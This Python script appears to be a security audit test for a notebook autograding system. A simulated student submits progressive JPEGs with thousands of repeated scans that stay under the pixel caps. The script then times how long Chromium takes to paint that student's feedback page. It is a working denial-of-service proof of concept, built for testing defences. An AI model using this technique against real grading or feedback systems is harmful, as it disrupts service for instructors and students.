"""a05: round 40 bounds an image by its PIXELS (16 Mpx an image, 64 Mpx a notebook); a browser's cost to decode a
progressive JPEG is pixels x SCANS, and a scan over a flat image is 56 bytes (a Huffman table and an end-of-band
run). mallory's 4 extra cells each display a 4096 x 4096 progressive JPEG (16.8 Mpx: inside both caps) whose 4 AC
scans are repeated C times (C=2500: 10,000 scans, 626 kB). Her feedback page and aaron's are painted in chromium."""
import os, sys, base64
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *
A = "ps1_memory"
C = int(os.environ.get("C", "2500")); N = int(os.environ.get("N", "4"))
LIB = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "jpegscans.py")).read()
m = honest(A)
idx = [i for i, c in enumerate(m.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory"][0]
for k in range(N):
    m.cells.insert(idx + 1, nbformat.v4.new_code_cell(LIB + f'''
from IPython.display import Image as _I, display
_b, _ = small_scans(4096, 4096, {C}, {k}); display(_I(data=_b, format="jpeg")); print("jpeg bytes", len(_b))
'''))
d = make_course("a05")
hand_in(d, "aaron41u", A, honest(A)); hand_in(d, "mallory41u", A, m); hand_in(d, "zoe41u", A, honest(A))
grade(d, A); scores(d)
from grader.feedback import image_size
nb = nbformat.read(f"{d}/autograded/mallory41u/{A}/{A}.ipynb", 4)
imgs = [o["data"]["image/jpeg"] for c in nb.cells for o in c.get("outputs", []) if "image/jpeg" in o.get("data", {})]
print(f"graded notebook keeps {len(imgs)} jpeg outputs, sizes by the course's header reader", [image_size("image/jpeg", x) for x in imgs])
p = f"{d}/feedback/mallory41u/{A}/{A}.html"; print("feedback page", os.path.getsize(p), "bytes; data:image/jpeg", open(p).read().count("data:image/jpeg"))
from playwright.sync_api import sync_playwright
with sync_playwright() as pw:
    for s in ("aaron41u", "mallory41u"):
        b = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        pg = b.new_page(); t = time.time()
        try:
            pg.goto(f"file://{d}/feedback/{s}/{A}/{A}.html", timeout=300000, wait_until="load")
            n = pg.evaluate("document.images.length")
            print(f"{s}: load {time.time()-t:.1f}s, {n} images", pg.evaluate("Array.from(document.images).map(i => [i.naturalWidth, i.naturalHeight])"))
            t3 = time.time()
            for k in range(n):
                pg.evaluate(f"document.images[{k}].scrollIntoView()")
                tk = time.time(); pg.screenshot(path=f"/tmp/attack41-user-a05-{s}.png", timeout=600000)
                print(f"  image {k} painted in {time.time()-tk:.1f}s", flush=True)
            print(f"  all painting {time.time()-t3:.1f}s")
        except Exception as e:
            print(f"{s}: {type(e).__name__}: {str(e)[:300]} after {time.time()-t:.1f}s")
        b.close()
shutil.rmtree(d)
